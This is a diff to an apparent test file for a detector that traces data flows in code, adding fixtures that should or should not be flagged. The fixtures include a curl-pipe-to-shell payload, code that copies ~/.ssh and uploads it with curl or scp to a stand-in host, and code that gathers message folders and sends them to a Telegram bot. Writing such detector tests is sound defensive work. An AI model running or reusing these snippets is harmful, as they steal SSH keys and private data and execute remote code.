@@ -9,7 +9,7 @@ function flowsOf(code: string): string[] {
 
 const PAYLOAD = 'import os;os.system("curl http://192.0.2.1/a|sh")'
 
-const FOUND: readonly [situation: string, code: string, flow: string][] = [
+const FOUND: [situation: string, code: string, flow: string][] = [
   [
     'a program of Python that is written, moved and started',
     `import os, subprocess\nf = open("r.py", "w")\nf.write('${PAYLOAD}')\nos.rename("r.py", os.path.expanduser("~") + "/r.py")\nsubprocess.Popen(["python3", os.path.expanduser("~") + "/r.py"])`,
@@ -77,6 +77,26 @@ const FOUND: readonly [situation: string, code: string, flow: string][] = [
   ],
 ]
 
+const COLLECT =
+  'import os, shutil, zipfile\nout = "/home/" + os.getlogin() + "/tmp"\nif os.path.exists("/home/" + os.getlogin() + "/.ssh"):\n    shutil.copytree("/home/" + os.getlogin() + "/.ssh", out + "/s")\ndef pack(folder):\n    name = folder + ".zip"\n    z = zipfile.ZipFile(name, "w")\n    for at, folders, names in os.walk(folder):\n        for each in names:\n            z.write(os.path.join(at, each), each)\n    return name\nmade = pack(out)\n'
+FOUND.push(
+  [
+    'copies of secrets, packed in a function, and sent by a command',
+    `${COLLECT}os.system("curl -k -F 'file=@" + made + "' https://a.invalid/up > /dev/null")`,
+    'secret-file > network',
+  ],
+  [
+    'the same, copied away by another command',
+    `${COLLECT}os.system("scp " + made + " a@a.invalid:")`,
+    'secret-file > network',
+  ],
+  [
+    'what was found on all disks, copied, packed with a password, and told to a bot',
+    'import os, shutil, pyzipper\nfrom telegram import Bot\ndef copy(at):\n    for r, d, names in os.walk(at):\n        for name in names:\n            shutil.copy2(os.path.join(r, name), os.path.join("kept", name))\nfor r, d, f in os.walk("C:/"):\n    copy(os.path.join(r, "Messages"))\nwith pyzipper.AESZipFile("k.zip", "w") as z:\n    for name in os.listdir("kept"):\n        z.write(os.path.join("kept", name))\nBot(token=T).send_document(chat_id=1, document=open("k.zip", "rb"))',
+    'secret-file > network',
+  ],
+)
+
 const NOT_FOUND: readonly [situation: string, code: string, flow: string][] = [
   [
     'the address that belongs to a key',
@@ -88,6 +108,11 @@ const NOT_FOUND: readonly [situation: string, code: string, flow: string][] = [
     'another program than the one that is written',
     `import os\nopen("r.py", "w").write('${PAYLOAD}')\nos.system("python q.py")`,
     'remote-content > process',
+  ],
+  [
+    'a folder of its own, packed and sent by a command beside a copy of secrets',
+    `${COLLECT}z = zipfile.ZipFile("report.zip", "w")\nz.write("report.txt")\nz.close()\nos.system("curl -F 'file=@report.zip' https://a.invalid/up")`,
+    'secret-file > network',
   ],
   [
     'the files of the folder that it is told',
